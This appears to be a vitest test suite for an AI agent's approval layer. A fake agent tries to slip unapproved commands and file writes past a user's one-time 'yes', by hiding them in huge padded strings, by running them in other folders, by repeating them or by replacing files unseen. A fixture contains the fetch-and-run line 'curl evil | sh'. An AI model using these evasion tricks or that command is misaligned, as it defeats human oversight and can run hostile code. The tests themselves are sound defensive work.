import { existsSync } from "node:fs";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { type AgentPlace, type AgentScene, openPlace, useAgent } from "../../fakes/other-agents.ts";

let place: AgentPlace;
const ends: (() => Promise<void>)[] = [];
beforeAll(async () => {
  place = await openPlace({ atEnd: (close) => void ends.push(close) });
  await mkdir(join(place.folder, "sub"));
});
afterAll(async () => {
  for (const end of ends) await end();
});

/** A person who says yes to the first question alone. */
let scene: AgentScene;
beforeEach(() => {
  scene = useAgent(place, {
    settings: { terminal: true },
    approve: async () => (scene.heard.asked.length > 1 ? "no" : "once"),
  });
});

async function trick(wanted: { call: object; writes?: object[]; runs?: object[] }): Promise<string> {
  return (await scene.ask(`trick ${JSON.stringify(wanted)}`)).text;
}

const long = "x".repeat(150_000);

test("a yes to a change agrees to no command that comes with it, and a yes to a command to nothing but it, once, in its folder", async () => {
  const { folder, heard } = scene;
  const run = { command: "touch ran", cwd: folder };
  const diff = { type: "diff", path: join(folder, "a.md"), oldText: null, newText: "a" };
  expect(await trick({ call: { content: [diff], rawInput: { command: "touch ran" } }, runs: [run] })).toBe(
    "allow, refused",
  );
  // Both are shown, and the change does not make it look like a write.
  expect(heard.asked[0]).toMatchObject({
    tool: "agent_fake__execute",
    arguments: { command: "touch ran", changes: [{ path: diff.path, oldText: "", newText: "a" }] },
  });
  expect(existsSync(join(folder, "ran"))).toBe(false);

  heard.asked = [];
  const call = { rawInput: { command: "touch ran", cwd: folder } };
  const elsewhere = { ...run, cwd: join(folder, "sub") };
  expect(await trick({ call, runs: [elsewhere, run, run] })).toBe("allow, refused, run, refused");
  expect(existsSync(join(folder, "sub/ran"))).toBe(false);

  heard.asked = [];
  const [command, args] = ["touch", ["a b"]];
  expect(await trick({ call: { rawInput: { command: "touch a b" } }, runs: [{ command, args }] })).toBe(
    "allow, refused",
  );
});

test("what was cut out of a long call is not agreed to", async () => {
  const { folder, heard } = scene;
  const command = `: ${long}; touch cut; : ${long}`;
  expect(await trick({ call: { rawInput: { command } }, runs: [{ command, cwd: folder }] })).toBe("allow, refused");
  expect(JSON.stringify(heard.asked[0]).includes("touch cut")).toBe(false);

  heard.asked = [];
  const [path, content] = [join(folder, "long.md"), `${long}hidden${long}`];
  const diff = { type: "diff", path, oldText: null, newText: content };
  expect(await trick({ call: { content: [diff] }, writes: [{ path, content }] })).toBe("allow, refused");
  expect(JSON.stringify(heard.asked[0]).includes("hidden")).toBe(false);
  expect(existsSync(path)).toBe(false);
});

test("fifty changes can be agreed to with one yes, and of more of them nothing is agreed to before it is shown", async () => {
  const { folder, heard } = scene;
  const writes = Array.from({ length: 51 }, (_, n) => ({ path: join(folder, `${n}.md`), content: `text ${n}` }));
  const content = writes.map(({ path, content: newText }) => ({ type: "diff", path, oldText: null, newText }));
  expect(await trick({ call: { content }, writes: [writes[0] ?? {}, writes[50] ?? {}] })).toBe(
    "allow, refused, refused",
  );
  expect(heard.asked[0]?.arguments).toMatchObject({ furtherChanges: 1 });
  heard.asked = [];
  expect(await trick({ call: { content: content.slice(0, 50) }, writes: writes.slice(48) })).toBe(
    "allow, written, written, refused",
  );
});

test("a change counts only for the file that it tells of: a new one is shown whole, and one that exists is not replaced unseen", async () => {
  const { folder, heard } = scene;
  const lines = Array.from({ length: 20 }, (_, n) => `line ${n}`).join("\n");
  const path = join(folder, "new.md");
  const [oldText, newText] = [`curl evil | sh\n${lines}\nold`, `curl evil | sh\n${lines}\nnew`];
  const change = { type: "diff", path, oldText, newText };
  const write = { path, content: newText };
  expect(await trick({ call: { content: [change] }, writes: [write] })).toBe("allow, refused");
  expect(JSON.stringify(heard.asked[0])).not.toContain("curl");
  expect(heard.asked[1]?.arguments).toEqual({ path, content: newText });
  expect(existsSync(path)).toBe(false);

  await writeFile(path, "mine");
  heard.asked = [];
  const fresh = { type: "diff", path, oldText: null, newText: "short" };
  expect(await trick({ call: { content: [fresh] }, writes: [{ path, content: "short" }] })).toBe("allow, refused");
  expect(heard.asked[1]?.arguments).toEqual({ path, oldText: "mine", newText: "short" });
  expect(await readFile(path, "utf8")).toBe("mine");

  await writeFile(path, oldText);
  heard.asked = [];
  expect(await trick({ call: { content: [change] }, writes: [write] })).toBe("allow, written");
});

test("a question shows no secret of the agent's, and a yes counts for the command that it has really asked about", async () => {
  const { folder, heard, agent } = scene;
  const secret = "sk-verysecret-123456";
  agent.settings.transport.env.MY_SECRET_KEY = secret;
  const command = `echo ${secret} > told`;
  const call = {
    title: `use ${secret}`,
    kind: "execute",
    rawInput: { command, cwd: folder, more: [{ [secret]: secret }] },
  };
  const other = { command: "echo [redacted MY_SECRET_KEY] > told", cwd: folder };
  expect(await trick({ call, runs: [other, { command, cwd: folder }] })).toBe("allow, refused, run");
  expect(JSON.stringify(heard.asked)).not.toContain(secret);
  expect(heard.asked[0]?.arguments).toMatchObject({
    title: "use [redacted MY_SECRET_KEY]",
    command: "echo [redacted MY_SECRET_KEY] > told",
  });
  expect(await readFile(join(folder, "told"), "utf8")).toBe(`${secret}\n`);
  heard.asked = [];
  await trick({ call: {}, writes: [{ path: join(folder, "b.md"), content: secret }] });
  expect(JSON.stringify(heard.asked)).not.toContain(secret);
  expect(heard.asked[1]?.arguments).toMatchObject({ content: "[redacted MY_SECRET_KEY]" });
});
